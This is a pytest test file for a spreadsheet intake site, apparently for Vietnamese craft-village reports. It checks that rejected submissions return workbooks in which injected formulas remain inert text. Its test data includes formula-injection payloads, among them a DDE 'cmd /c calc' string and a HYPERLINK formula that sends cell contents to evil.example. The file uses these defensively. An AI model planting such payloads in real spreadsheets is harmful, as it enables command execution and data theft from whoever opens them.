"""Whatever a cell, a sheet or a file is named, the reply shows it as text and opens."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pytest

import crafted
from intake_site import VILLAGES, Site, as_csv, communes, contracts, form, sample, table

UNIT = communes()[0]
NAMES = [column.name for column in contracts()[VILLAGES].sheets[0].columns]
INJECTIONS = {
    "village_name": '=cmd|" /c calc"!A1',
    "trade": "+1+1",
    "handling_measure": "@SUM(1+1)*cmd|' /c calc'!A0",
    "households": '=HYPERLINK("http://evil.example/?"&A1)',
    "workers": "-1+1",
}


def rows_with(**cells: str) -> list[list[str]]:
    rows = [list(row) for row in table(VILLAGES, sample(VILLAGES, UNIT, "2025"))]
    for name, cell in cells.items():
        rows[1][NAMES.index(name)] = cell
    return rows


def reply_to(site: Site, name: str, content: bytes) -> Path:
    """Drop a file that is rejected and return the workbook that came back."""
    site.drop(UNIT, name, content)
    (submission,) = site.ingest()
    assert submission.outcome == "rejected"
    return site.workbook(submission)


def assert_opens_without_formulas(path: Path) -> None:
    """Every part is XML, and no cell of any sheet is a formula."""
    with zipfile.ZipFile(path) as archive:
        for part in archive.namelist():
            if part.endswith((".xml", ".rels")):
                ElementTree.fromstring(archive.read(part))
    workbook = openpyxl.load_workbook(path)
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]


def assert_links_lead_into_the_workbook(path: Path) -> None:
    workbook = openpyxl.load_workbook(path)
    sheets = set(workbook.sheetnames)
    links = [
        cell.hyperlink
        for row in workbook["Lỗi"].iter_rows()
        for cell in row
        if cell.hyperlink is not None
    ]
    assert links
    for link in links:
        place = link.location or str(link.target).removeprefix("#")
        match = re.fullmatch(r"'(.+)'!([A-Z]+\d+)", place)
        assert match, place
        assert match[1].replace("''", "'") in sheets


def texts(path: Path, sheet: str) -> list[str]:
    workbook = openpyxl.load_workbook(path)
    return [
        str(cell.value)
        for row in workbook[sheet].iter_rows()
        for cell in row
        if cell.value is not None
    ]


def test_formulas_in_a_csv_come_back_as_text(site: Site) -> None:
    path = reply_to(site, "Làng nghề 2025.csv", as_csv(rows_with(**INJECTIONS)))
    assert_opens_without_formulas(path)
    assert_links_lead_into_the_workbook(path)
    assert set(INJECTIONS.values()) <= set(texts(path, "Số liệu"))
    assert INJECTIONS["households"] in texts(path, "Lỗi")


def test_formulas_in_texts_of_a_workbook_come_back_as_text(site: Site) -> None:
    content = crafted.workbook({"Làng nghề": rows_with(**INJECTIONS)})
    path = reply_to(site, "Làng nghề 2025.xlsx", content)
    assert_opens_without_formulas(path)
    assert INJECTIONS["households"] in texts(path, "Lỗi")


def test_a_form_filled_with_formulas_as_texts_comes_back_with_them(site: Site) -> None:
    """In our own form, which is marked in place, texts beginning with = stay texts."""
    rows = sample(VILLAGES, UNIT, "2025")
    first = {**rows["craft_villages"][0], "village_name": "=1+1", "trade": "@x"}
    first |= {"wastewater_m3_day": "1", "wastewater_treated_m3_day": "99"}
    rows = {"craft_villages": [first, *rows["craft_villages"][1:]]}
    path = reply_to(site, "form.xlsx", form(VILLAGES, UNIT, "2025", rows))
    assert_opens_without_formulas(path)
    assert_links_lead_into_the_workbook(path)
    assert {"=1+1", "@x"} <= set(texts(path, "Làng nghề"))


@pytest.mark.parametrize(
    "name", ["O'Neil's \"x\"", "<b>&amp;</b>", "'quoted'", "=1+1", "Sheet!A1", "Dữ liệu 𝐁"]
)
def test_sheet_names_of_any_kind_are_linked(site: Site, name: str) -> None:
    content = crafted.workbook({name: rows_with(households="abc")})
    path = reply_to(site, "Làng nghề 2025.xlsx", content)
    assert_opens_without_formulas(path)
    (submission,) = site.submissions()
    assert f"trang “{name}”, ô E2" in site.receipt(submission)


@pytest.mark.parametrize("ending", ["csv", "xlsx"])
def test_characters_that_no_workbook_can_hold_do_not_break_it(site: Site, ending: str) -> None:
    strange = "1\x01\x0b\x1f\uffff\ufffe"
    rows = rows_with(households=strange, village_name=f"Làng {strange}")
    if ending == "csv":
        content = as_csv(rows)
    else:
        escaped = [
            [re.sub(r"[^\x20-\ufffd]", lambda m: f"_x{ord(m[0]):04X}_", cell) for cell in row]
            for row in rows
        ]
        content = crafted.workbook({"Làng nghề": escaped})
    path = reply_to(site, f"Làng nghề 2025.{ending}", content)
    assert_opens_without_formulas(path)
    assert any(text.startswith("“1") for text in texts(path, "Lỗi"))


def test_a_long_text_is_shown_in_a_row_that_excel_can_open(site: Site) -> None:
    """Rows higher than 409 points make Excel repair the workbook."""
    rows = sample(VILLAGES, UNIT, "2025")
    long = "Làng nghề rất dài " * 1_500
    first = {**rows["craft_villages"][0], "village_name": long, "trade": ""}
    rows = {"craft_villages": [first, first, *rows["craft_villages"][1:]]}
    path = reply_to(site, "form.xlsx", form(VILLAGES, UNIT, "2025", rows))
    sheet = openpyxl.load_workbook(path)["Lỗi"]
    heights = [dimension.height for dimension in sheet.row_dimensions.values() if dimension.height]
    assert max(heights) <= 409
    assert all(len(text) <= 32_767 for text in texts(path, "Lỗi"))


def test_a_name_with_control_characters_does_not_cost_the_marks(site: Site) -> None:
    rows = sample(VILLAGES, UNIT, "2025")
    first = {**rows["craft_villages"][0], "trade": ""}
    rows = {"craft_villages": [first, *rows["craft_villages"][1:]]}
    path = reply_to(site, "a\x01b\x1b.xlsx", form(VILLAGES, UNIT, "2025", rows))
    workbook = openpyxl.load_workbook(path)
    assert workbook.sheetnames[0] == "Lỗi"
    assert len(workbook.sheetnames) > 2, "the sender's own sheets come back"
    assert r"a\x01b\x1b.xlsx" in str(workbook["Lỗi"]["A1"].value)


def test_an_outbox_that_cannot_be_written_keeps_no_other_unit_waiting(site: Site) -> None:
    blocked, other = communes()[:2]
    for unit in (blocked, other):
        site.drop(unit, "form.xlsx", form(VILLAGES, unit, "2025"))
    site.settings.outbox.mkdir(parents=True)
    in_the_way = site.settings.outbox / blocked
    in_the_way.write_bytes(b"")
    site.ingest()
    by_unit = {one.unit_code: one for one in site.submissions()}
    assert [by_unit[unit].outcome for unit in (blocked, other)] == ["accepted"] * 2
    assert "ĐÃ NHẬN" in site.receipt(by_unit[other])
    assert by_unit[blocked].replied_at is None
    in_the_way.unlink()
    site.ingest()
    site.balance(2)
